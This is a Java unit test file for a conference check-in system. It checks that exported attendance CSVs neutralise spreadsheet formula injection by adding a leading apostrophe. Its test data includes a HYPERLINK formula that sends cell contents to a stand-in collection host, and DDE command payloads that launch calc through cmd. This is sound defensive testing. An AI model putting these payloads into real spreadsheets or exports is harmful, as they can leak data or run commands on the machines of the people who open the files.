package io.hoithao.registrations.checkin;

import static org.assertj.core.api.Assertions.assertThat;

import io.hoithao.documents.Cells;
import io.hoithao.registrations.registration.DelegateCategory;
import java.io.IOException;
import java.io.StringReader;
import java.time.LocalDate;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SpreadsheetCellsTest {

    static final String HYPERLINK = "=HYPERLINK(\"http://thu-thap.example/?d=\"&A1,\"Bấm vào đây\")";

    @Test
    void aFormulaInAUnitNameComesOutOfTheAttendanceCsvAsText() throws IOException {
        Attendance attendance = Attendance.of("evt", List.of(AttendanceTest.DAY1), List.of(
                AttendanceTest.delegate(1, HYPERLINK, DelegateCategory.TEACHER, AttendanceTest.DAY1),
                AttendanceTest.delegate(2, "@SUM(1+1)*cmd|' /C calc'!A0", DelegateCategory.TEACHER),
                AttendanceTest.delegate(3, "Trường Mầm non Đồng Tâm", DelegateCategory.TEACHER)));

        List<CSVRecord> rows = CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(CheckInHandler.csv(attendance))).getRecords();

        assertThat(rows).extracting(row -> row.get("unit")).containsExactlyInAnyOrder(
                "'" + HYPERLINK, "'@SUM(1+1)*cmd|' /C calc'!A0", "Trường Mầm non Đồng Tâm", "(all units)");
        assertThat(rows).allSatisfy(row -> row.forEach(cell -> assertThat(cell).doesNotStartWith("=").doesNotStartWith("@")));
        assertThat(rows).filteredOn(row -> row.get("unit").contains("HYPERLINK"))
                .singleElement().satisfies(row -> assertThat(row.get("attended")).isEqualTo("1"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "+84912345678", "-2+3", "-", "@here", "\t=1+1", "\r=1+1", "  =1+1", "＝1+1",
            "－1", "-1e3", "-cmd|' /C calc'!A0"})
    void whatASpreadsheetWouldRunGetsAnApostrophe(String value) {
        assertThat(Cells.inert(value)).isEqualTo("'" + value);
    }

    @ParameterizedTest
    @ValueSource(strings = {"-12", "-3.5", "-1,5", "Phòng GD&ĐT Chợ Mới", "1 of 2 delegates attended", "a=b", ""})
    void plainNegativeNumbersAndOrdinaryTextStayAsTheyAre(String value) {
        assertThat(Cells.inert(value)).isEqualTo(value);
    }
}
